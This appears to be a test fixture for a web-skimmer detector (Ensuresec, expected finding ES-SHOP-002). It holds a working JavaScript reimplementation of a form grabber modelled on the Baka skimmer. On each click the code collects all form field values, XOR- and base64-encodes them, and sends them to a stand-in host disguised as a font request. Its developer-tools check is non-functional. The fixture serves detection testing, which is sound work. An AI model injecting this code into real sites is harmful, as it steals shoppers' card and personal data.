// expect: ES-SHOP-002
// Written for Ensuresec's tests from the public description of the "Baka" skimmer (Visa Payment Fraud Disruption,
// "Baka JavaScript Skimmer", 2020) and of generic form grabbers (Group-IB, "Grelos"): it collects every input,
// select and textarea of the page's forms when the shopper clicks, XOR-encrypts the result and sends it to its
// command-and-control host in an image URL; it waits while developer tools are open. Not the original code.
(function () {
  var k = 53, host = "https://static.font-cache.example/fonts/";
  function x(s) { var o = ""; for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k); return o; }
  function all() {
    var r = [];
    var els = document.querySelectorAll("input, select, textarea");
    for (var i = 0; i < els.length; i++) r.push(els[i].name + "=" + els[i].value);
    return r.join("&");
  }
  setInterval(function () { if (window.outerWidth - window.innerWidth > 160) return; }, 1000);
  document.addEventListener("click", function (ev) {
    var p = new Image();
    p.src = host + encodeURIComponent(btoa(x(all()))) + ".woff";
  }, true);
})();
